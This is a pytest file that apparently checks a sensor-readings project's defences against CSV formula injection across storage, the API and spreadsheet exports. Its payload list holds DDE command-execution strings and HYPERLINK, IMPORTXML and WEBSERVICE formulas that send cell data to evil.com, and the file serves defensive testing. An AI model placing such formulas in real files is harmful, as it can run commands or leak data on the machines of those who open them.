"""CSV injection (CWE-1236): model, row, CSV, back, and the export as a spreadsheet opens it."""

from __future__ import annotations

import csv
import json
import unicodedata
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import pyarrow.parquet
import pytest
from csv_feed import TOPIC
from hypothesis import given
from hypothesis import strategies as st
from pydantic import ValidationError

from labkit.api.app import create_app
from labkit.core.spreadsheet_text import neutralise, restore
from labkit.readings.fleet import Fleet
from labkit.readings.reading import Reading
from labkit.sink.csv_log import CsvLog
from labkit.table.export import export_readings
from labkit.table.table import read_table

COMMAND = "cmd|'/c calc'!A0"
STARTS = [
    *("=", "+", "-", "@", "==", "=-", "-+", "@=", "'=", "''=", '"=', '""=', "\"'=", " =", "  +"),
    *(
        "\u00a0=",
        "\u3000@",
        "\u200b=",
        "\ufeff=",
        "\u00ad-",
        "\u2060=",
        "\u2009+",
        " \u200b\u00a0=",
    ),
    *("＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫", "−", " ＝", "\u200b＠"),
]
PAYLOADS = [
    *[start + COMMAND for start in STARTS],
    *[f"Plant;{start}{COMMAND}" for start in STARTS],
    *('=HYPERLINK("http://evil.com?x="&A1,"Error: click")', "=1+1", "-2+3", "@SUM(1+1)", "+1"),
    *('=IMPORTXML(CONCAT("http://evil.com?",A1:E9),"//a")', '=DDE("cmd";"/C calc";"x")', "-"),
    *('=WEBSERVICE("http://evil.com")', "a;b;=x;+y", "a,=x", 'a","=x', 'a";"=x', ";=x", ";;@x"),
    *(
        "x;'=y",
        "';'",
        "x; =y",
        'x;"=y"',
        'x;""=y',
        ";'",
        "'",
        "''",
        "a'b;c'd",
        "=;=;=",
        "Ltd; -5 °C",
    ),
]
REFUSED = [
    *("\t=x", "\r=x", "\n=x", "\0=x", "x\t=y", "x\r\n=y", "x\n=y", "\x0b=x", "\x0c=x", "\x85=x"),
    *("\u2028=x", "\u2029=x", "\x1b=x", " ", "\u00a0"),
]
TEXTS = ("facility_id", "facility", "operator")
SIGNS = "=+-@＝＋－＠﹦﹢﹣﹫−"


def cells_of_a_spreadsheet(path: Path) -> Iterator[str]:
    """Yield each cell that a spreadsheet could make of a file, whatever separates them for it."""
    text = path.read_bytes().decode("utf-8-sig")
    for separator in (",", ";", "\t"):
        for row in csv.reader(text.splitlines(), delimiter=separator):
            yield from row


def runs(cell: str) -> bool:
    """Tell whether the most eager of spreadsheets would run a cell."""
    unseen = "".join(c for c in cell if unicodedata.category(c) in ("Cc", "Cf", "Zs", "Zl", "Zp"))
    seen = cell.lstrip(f'{unseen}"')
    if not seen.startswith(tuple(SIGNS)):
        return cell[:1] in ("\t", "\r", "\n", "\0")
    try:
        float(cell)  # a number below zero is what it says
    except ValueError:
        return True
    return not cell.startswith("-")


def readings() -> list[Reading]:
    """Put each payload into each text of a reading."""
    model = Fleet().reading(datetime.now(UTC), 1.0).model_dump()
    return [
        Reading(**model | {"recorded_at": datetime.now(UTC), field: payload})
        for payload in PAYLOADS
        for field in TEXTS
    ]


@pytest.fixture(scope="module")
def stored(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, list[Reading]]:
    folder = tmp_path_factory.mktemp("injected")
    log = CsvLog(folder, TOPIC, 0, topic_id="topic-1", cluster_id="cluster-1")
    sent = readings()
    for offset, reading in enumerate(sent):
        log.append(offset, reading)
    log.flush()
    log.close()
    return folder, sent


def test_the_judge_knows_a_formula_from_a_number() -> None:
    for text in ("=1", "+1", "-x", "@a", " =1", '"=1"', "＝1", "\tx", "-2+3", "\ufeff=x", "--1"):
        assert runs(text), text
    for text in ("-1.5", "1", "x", "", "'=1", "' =1", "a=b", "-1e-05"):
        assert not runs(text), text
    assert sum(map(runs, PAYLOADS)) > 40
    assert len(PAYLOADS) > 90


@pytest.mark.parametrize("text", REFUSED)
@pytest.mark.parametrize("field", TEXTS)
def test_the_model_refuses_what_no_line_can_hold(field: str, text: str) -> None:
    model = Fleet().reading(datetime.now(UTC), 1.0).model_dump()
    with pytest.raises(ValidationError):
        Reading(**model | {field: text})


def test_nothing_in_the_csv_runs(stored: tuple[Path, list[Reading]]) -> None:
    cells = list(cells_of_a_spreadsheet(stored[0] / TOPIC / "0.csv"))
    assert len(cells) > len(stored[1]) * 15
    assert [cell for cell in cells if runs(cell)] == []


def test_everything_is_read_back_as_it_was(stored: tuple[Path, list[Reading]]) -> None:
    folder, sent = stored
    table = read_table(folder, TOPIC)
    client = create_app(folder, TOPIC).test_client()
    served = client.get("/api/readings?after=&limit=5000").get_json()["readings"]
    for field in TEXTS:
        assert table[field].tolist() == [getattr(reading, field) for reading in sent]
        assert [one[field] for one in served] == [getattr(reading, field) for reading in sent]


def test_the_export_for_spreadsheets_does_not_run(
    stored: tuple[Path, list[Reading]], tmp_path: Path
) -> None:
    folder, sent = stored
    assert export_readings(tmp_path / "out.csv", folder, TOPIC) == len(sent)
    assert [cell for cell in cells_of_a_spreadsheet(tmp_path / "out.csv") if runs(cell)] == []
    rows = csv.DictReader((tmp_path / "out.csv").read_text("utf-8-sig").splitlines())
    for row, reading in zip(rows, sent, strict=True):
        assert [restore(row[field]) for field in TEXTS] == [getattr(reading, f) for f in TEXTS]


@pytest.mark.parametrize("ending", ["json", "parquet"])
def test_the_exports_for_programs_are_as_it_was(
    stored: tuple[Path, list[Reading]], tmp_path: Path, ending: str
) -> None:
    folder, sent = stored
    path = tmp_path / f"out.{ending}"
    export_readings(path, folder, TOPIC)
    rows = (
        json.loads(path.read_text("utf-8"))
        if ending == "json"
        else pyarrow.parquet.read_table(path).to_pylist()
    )
    for field in TEXTS:
        assert [row[field] for row in rows] == [getattr(reading, field) for reading in sent]


seen = st.characters(exclude_categories=("Cc", "Cf", "Cs", "Zl", "Zp"))


@given(st.text(seen) | st.text(st.sampled_from("=+-@';\" ,\t\r\nx\u200b\u202e＝")))
def test_any_text_is_restored_and_none_runs(text: str) -> None:
    safe = neutralise(text)
    assert restore(safe) == text
    for cell in safe.split(";"):
        assert not runs(cell)
